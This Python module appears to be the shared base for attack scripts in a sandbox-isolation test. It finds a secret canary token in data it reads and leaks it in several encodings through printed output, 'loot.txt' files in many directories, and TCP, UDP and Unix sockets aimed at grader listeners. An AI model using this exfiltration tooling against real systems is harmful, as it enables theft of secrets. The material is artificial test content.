"""What the attacks share: where things lie, and every way of carrying a secret out.

The attacker knows all paths and addresses, and the form of the canary, but not the canary.
"""

import base64
import ctypes
import json
import os
import re
import socket
import sys
from pathlib import Path

TOLD = json.loads(Path(__file__).with_name("told.json").read_text())
FORM = re.compile(rb"canary-[0-9a-f]{32}")
DESK = Path(TOLD["desk"])
HIDDEN = DESK / "hidden"
LIBC = ctypes.CDLL(None, use_errno=True)


def attempt(function, *arguments, **more):
    """Call a function; whatever it raises is no matter."""
    try:
        return function(*arguments, **more)
    except BaseException:  # noqa: BLE001 - the next thing is tried
        return None


def take(what):
    """Say everywhere that something was got."""
    carry(f"{'NEKAT'[::-1]}:{what};")


def grab(data, what):
    """Look for the canary in what was read, and carry it out."""
    for found in {*FORM.findall(data), *(m[::-1] for m in FORM.findall(data[::-1]))}:
        take(what)
        token = found.decode()
        for form in (token, token[::-1], base64.b64encode(found).decode(), found.hex()):
            carry(form)
        return True
    return False


def carry(text):
    """Put a text everywhere."""
    for way in (printed, filed, sent):
        attempt(way, text)


def printed(text):
    for stream in (sys.stdout, sys.stderr):
        print(text, file=stream, flush=True)
    os.write(2, f"{text}\n".encode())


def filed(text):
    home = os.path.expanduser("~grader")
    for place in (".", "/tmp", "/var/tmp", "/dev/shm", "/home", home, DESK, DESK / "kit", "/mnt"):
        attempt(append, Path(place, "loot.txt"), text)


def append(path, text):
    with open(path, "a") as file:
        file.write(f"{text}\n")


def sent(text):
    data = text.encode()
    for name in ("tcp", "unix", "abstract"):
        attempt(called, name, data)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(data, ("127.0.0.1", TOLD["udp"]))


def called(name, data):
    address = {"unix": "/tmp/grader.socket", "abstract": "\0grader"}.get(name)
    with socket.socket(socket.AF_UNIX if address else socket.AF_INET) as out:
        out.settimeout(1)
        out.connect(address or ("127.0.0.1", TOLD[name]))
        out.sendall(data)


def syscall(number, *arguments):
    """Make a system call by its number on x86-64; its result, or OSError."""
    result = LIBC.syscall(ctypes.c_long(number), *map(word, arguments))
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def word(value):
    return ctypes.c_char_p(value) if isinstance(value, bytes) else ctypes.c_long(value)


def graders():
    """Processes that may be the grader."""
    return dict.fromkeys([os.getppid(), TOLD["grader"], 1])
